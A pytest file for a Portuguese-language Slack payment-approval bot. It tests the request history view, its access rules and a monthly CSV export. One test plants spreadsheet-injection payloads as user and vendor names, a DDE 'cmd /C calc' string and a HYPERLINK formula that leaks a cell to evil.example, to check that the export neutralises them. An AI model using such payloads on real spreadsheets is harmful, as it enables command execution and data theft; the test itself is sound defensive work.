"""Traceability through the real app: a request's History button, and ``/pagamento export <month>`` as CSV files."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from typing import Any

import pytest

from bot.blocks.export import parse_month
from bot.dev import slack_payloads as payloads
from ledger.crm.generic import sign_generic
from ledger.receivables import ReceivableRules
from tests.harness import CFO, MANAGER, OUTSIDER, REQUESTER, Aprova, running_aprova

pytestmark = pytest.mark.anyio

APPROVE, HISTORY = "payment-approve", "request-history"
WEBHOOK_SECRET = "whsec-export"


def history_lines(view: dict[str, Any]) -> list[str]:
    texts = [(b.get("text") or {}).get("text", "") for b in view["blocks"] if b["type"] == "section"]
    return [text for text in texts if text.startswith("*") and " · " in text[:40]]


async def open_history(aprova: Aprova, tracking: dict[str, Any], user_id: str) -> dict[str, Any] | None:
    before = len(aprova.slack.calls_to("views.open"))
    await aprova.click(aprova.message(tracking["channel"], tracking["ts"]), HISTORY, user_id=user_id)
    await aprova.settle()
    if len(aprova.slack.calls_to("views.open")) == before:
        return None
    return [v for v in aprova.slack.views.values() if v.get("title", {}).get("text") == "Histórico"][-1]


async def test_history_shows_every_event_to_those_involved_only(session_factory, clock):
    async with running_aprova(session_factory, clock, contaazul=True, auto_consent=True) as aprova:
        await aprova.connect_contaazul()
        tracking = await aprova.file_request()
        await aprova.click(aprova.approval_messages(MANAGER)[-1], APPROVE, user_id=MANAGER)
        await aprova.settle()
        [result] = await aprova.post()
        entry = result.request.contaazul_id

        view = await open_history(aprova, tracking, REQUESTER)
        assert view is not None
        lines = history_lines(view)
        assert lines == [
            "*25/11/2026 12:00* · 📝 Enviado por <@U0REQ>",
            "*25/11/2026 12:00* · ✅ Aprovado por <@U0MGR> (etapa *Financeiro*)",
            f"*25/11/2026 12:00* · 📗 Lançado no Conta Azul: id `{entry}` (tentativa 1)",
        ]
        assert "Histórico de PAG-2026-000001" in json.dumps(view["blocks"], ensure_ascii=False)
        for allowed in (MANAGER, CFO):
            assert await open_history(aprova, tracking, allowed) is not None
        assert await open_history(aprova, tracking, OUTSIDER) is None
        assert aprova.slack.ephemerals(OUTSIDER)[-1]["text"] == (
            "O histórico de PAG-2026-000001 é visível para quem pediu, para os aprovadores e para o financeiro."
        )


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # the BOM: Excel reads the accents right
    text = content.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text), delimiter=";"))


async def export(aprova: Aprova, user_id: str, text: str) -> None:
    trigger = aprova.slack.new_trigger_id()
    await aprova.send_form(payloads.slash_command("/pagamento", user_id=user_id, trigger_id=trigger, text=text))
    await aprova.settle()


async def test_monthly_export_is_two_spreadsheet_ready_csv_files(session_factory, clock):
    async with running_aprova(session_factory, clock, contaazul=True, auto_consent=True) as aprova:
        await aprova.connect_contaazul()
        await aprova.file_request()
        await aprova.click(aprova.approval_messages(MANAGER)[-1], APPROVE, user_id=MANAGER)
        await aprova.settle()
        [result] = await aprova.post()
        await aprova.file_request(
            description='Pão "francês"; 50 un', amount="R$ 20.000,00", competence_date="2026-11-30"
        )
        await aprova.file_request(competence_date="2026-10-31")  # October: not in November's close

        await export(aprova, REQUESTER, "export 2026-11")
        assert aprova.slack.ephemerals(REQUESTER)[-1]["text"] == "Só os administradores do financeiro podem exportar."
        await export(aprova, CFO, "export novembro")
        assert "Não entendi o mês" in aprova.slack.ephemerals(CFO)[-1]["text"]
        assert aprova.slack.uploads == {}

        await export(aprova, CFO, "export 11/2026")
        files = {u.filename: u for u in aprova.slack.uploads.values()}
        assert set(files) == {"aprova-2026-11-pedidos.csv", "aprova-2026-11-historico.csv"}
        assert all(u.channels == [aprova.slack.dm_channel(CFO)] and u.completed for u in files.values())
        assert "Fechamento de 11/2026: 2 pedidos" in (files["aprova-2026-11-pedidos.csv"].initial_comment or "")

        header, *rows = read_csv(files["aprova-2026-11-pedidos.csv"].content or b"")
        assert header[:10] == [
            "Referência",
            "Tipo",
            "Solicitante",
            "Fornecedor/Cliente",
            "CNPJ/CPF",
            "Categoria",
            "Centro de custo",
            "Competência",
            "Vencimento",
            "Valor (R$)",
        ]
        assert [r[0] for r in rows] == ["PAG-2026-000001", "PAG-2026-000002"]
        posted = dict(zip(header, rows[0], strict=True))
        assert posted == {
            "Referência": "PAG-2026-000001",
            "Tipo": "A pagar",
            "Solicitante": "Ana Souza",
            "Fornecedor/Cliente": "Moinho Anaconda Ltda",
            "CNPJ/CPF": "11.222.333/0001-81",
            "Categoria": "Matéria-Prima",
            "Centro de custo": "Produção",
            "Competência": "01/11/2026",
            "Vencimento": "10/12/2026",
            "Valor (R$)": "1234,56",
            "Parcelas": "1",
            "Forma de pagamento": "Boleto",
            "NF": "4521",
            "Status": "Lançado",
            "Aprovadores": "Financeiro: Bruno Lima",
            "ID Conta Azul": result.request.contaazul_id,
            "Lançado em": "25/11/2026 12:00",
        }
        pending = dict(zip(header, rows[1], strict=True))
        assert (pending["Valor (R$)"], pending["Status"], pending["Aprovadores"]) == (
            "20000,00",
            "Aguardando aprovação",
            "",
        )
        assert Decimal(pending["Valor (R$)"].replace(",", ".")) == Decimal("20000.00")  # a number, not text

        header, *events = read_csv(files["aprova-2026-11-historico.csv"].content or b"")
        assert header == ["Referência", "Quando", "Quem", "Evento"]
        first = [e for e in events if e[0] == "PAG-2026-000001"]
        assert [e[3] for e in first] == [
            "📝 Enviado por U0REQ",
            "✅ Aprovado por U0MGR (etapa Financeiro)",
            f"📗 Lançado no Conta Azul: id `{result.request.contaazul_id}` (tentativa 1)",
        ]
        assert [e[2] for e in first] == ["Ana Souza", "Bruno Lima", "Aprova"]


async def test_export_writes_formula_like_text_as_text_and_amounts_as_numbers(session_factory, clock):
    """CSV injection: whatever people or a CRM typed is shown by the spreadsheet, never evaluated."""
    rules = ReceivableRules(category="+Vendas", cost_center="@Comercial")
    async with running_aprova(
        session_factory, clock, contaazul=True, receivables=rules, webhook_secrets=(WEBHOOK_SECRET,)
    ) as aprova:
        aprova.slack.add_user("U0EVIL", real_name="\t=cmd|' /C calc'!A0", locale="pt-BR")
        await aprova.file_request(
            user_id="U0EVIL",
            vendor_name='=HYPERLINK("https://evil.example/?x="&A1;"NF")',
            category="+Matéria-Prima",
            cost_center="-Produção",
        )
        deal = {"deal_id": "D-1", "value": "99.90", "won_at": "2026-11-24", "customer": {"name": "=2+3 Eventos"}}
        body = json.dumps(deal).encode()
        timestamp = int(clock.now().timestamp())
        signature = sign_generic(WEBHOOK_SECRET, timestamp, body)
        signed = {"X-Aprova-Timestamp": str(timestamp), "X-Aprova-Signature": signature}
        assert (await aprova.http.post("/crm/generic", content=body, headers=signed)).status_code == 202
        await aprova.settle()

        await export(aprova, CFO, "export 11/2026")
        files = {u.filename: u for u in aprova.slack.uploads.values()}
        header, *rows = read_csv(files["aprova-2026-11-pedidos.csv"].content or b"")
        payable, receivable = (dict(zip(header, row, strict=True)) for row in rows)
        assert (payable["Solicitante"], payable["Fornecedor/Cliente"]) == (
            "'\t=cmd|' /C calc'!A0",
            '\'=HYPERLINK("https://evil.example/?x="&A1;"NF")',
        )
        assert (payable["Categoria"], payable["Centro de custo"]) == ("'+Matéria-Prima", "'-Produção")
        assert (payable["Valor (R$)"], payable["Parcelas"]) == ("1234,56", "1")  # numbers stay numbers
        assert (receivable["Fornecedor/Cliente"], receivable["Categoria"], receivable["Centro de custo"]) == (
            "'=2+3 Eventos",
            "'+Vendas",
            "'@Comercial",
        )
        assert receivable["Valor (R$)"] == "99,90"
        header, *events = read_csv(files["aprova-2026-11-historico.csv"].content or b"")
        assert [e[2] for e in events if e[0] == "PAG-2026-000001"] == ["'\t=cmd|' /C calc'!A0"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", date(2026, 10, 1)),
        ("2026-11", date(2026, 11, 1)),
        ("11/2026", date(2026, 11, 1)),
        ("1/2027", date(2027, 1, 1)),
        ("2026-13", None),
        ("nov", None),
    ],
)
def test_parse_month(text, expected):
    assert parse_month(text, today=date(2026, 11, 25)) == expected
    assert parse_month("", today=date(2027, 1, 5)) == date(2026, 12, 1)
